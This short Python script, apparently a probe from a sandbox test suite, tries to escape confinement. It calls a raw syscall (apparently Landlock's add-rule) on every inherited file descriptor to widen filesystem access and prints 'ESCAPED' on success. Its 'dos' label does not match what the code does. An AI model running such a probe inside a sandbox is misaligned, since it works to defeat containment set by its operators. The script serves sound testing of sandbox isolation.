# class: dos
# Adds rules to a set that its process was given.
import ctypes,struct,os
l=ctypes.CDLL(None,use_errno=True); n=0; p=os.open(os.path.dirname(os.__file__),os.O_PATH)
for f in range(256): n+=l.syscall(445,f,1,ctypes.create_string_buffer(struct.pack("=Qi",4,p),12),0)==0
print("ESCAPED %d rules added"%n if n else "none")
